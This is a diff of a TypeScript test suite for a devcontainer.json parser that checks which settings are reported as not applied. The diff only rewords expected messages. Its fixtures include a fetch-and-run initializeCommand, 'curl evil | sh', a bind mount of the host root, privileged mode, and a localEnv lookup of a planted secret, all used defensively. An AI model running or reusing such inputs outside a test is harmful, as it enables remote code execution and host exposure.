@@ -119,7 +119,7 @@ describe("parseDevcontainer: build", () => {
 describe("parseDevcontainer: notes for what is not applied", () => {
   const table: Array<[string, string, RegExp]> = [
     ["features", `{"image":"x","features":{"ghcr.io/devcontainers/features/node:1":{}}}`, /^`features` not applied \(ghcr\.io\/devcontainers\/features\/node:1\)/],
-    ["initializeCommand never runs on the host", `{"image":"x","initializeCommand":"curl evil | sh"}`, /`initializeCommand` not applied: .*server host.*W1/],
+    ["initializeCommand never runs on the host", `{"image":"x","initializeCommand":"curl evil | sh"}`, /`initializeCommand` not applied: .*server host, and repository code never runs there/],
     ["mounts", `{"image":"x","mounts":["source=/,target=/host,type=bind"]}`, /`mounts` not applied: only the workspace is mounted/],
     ["forwardPorts", `{"image":"x","forwardPorts":[3000]}`, /`forwardPorts` not applied/],
     ["privileged", `{"image":"x","privileged":true}`, /never run privileged/],
@@ -127,7 +127,7 @@ describe("parseDevcontainer: notes for what is not applied", () => {
     ["unknown keys", `{"image":"x","somethingNew":1}`, /`somethingNew` not applied: not supported/],
     ["compose", `{"dockerComposeFile":"dc.yml","service":"app"}`, /Docker Compose .* using the default image default:img/],
     ["no image", `{"remoteUser":"x"}`, /Neither `image` nor `build` is set; using the default image default:img/],
-    ["localEnv never reads the server environment", `{"image":"x","containerEnv":{"T":"\${localEnv:HOME}"}}`, /\$\{localEnv:HOME\}.*containerEnv\.T.*never read \(W1\)/],
+    ["localEnv never reads the server environment", `{"image":"x","containerEnv":{"T":"\${localEnv:HOME}"}}`, /\$\{localEnv:HOME\}.*containerEnv\.T.*never read; set/],
     ["unknown variables", `{"image":"x","containerEnv":{"T":"\${devcontainerId}"}}`, /\$\{devcontainerId\}.*not substituted/],
     ["null variables", `{"image":"x","remoteEnv":{"T":null}}`, /remoteEnv\.T: null.*cannot be unset/],
   ];
@@ -138,7 +138,7 @@ describe("parseDevcontainer: notes for what is not applied", () => {
     });
   }
 
-  it("never reads process.env for ${localEnv:…} (W1)", () => {
+  it("never reads process.env for ${localEnv:…}", () => {
     process.env.DEVS_TEST_SECRET_FOR_W1 = "leaked";
     try {
       const { spec } = parse(`{"image":"x","containerEnv":{"S":"\${localEnv:DEVS_TEST_SECRET_FOR_W1}"}}`);
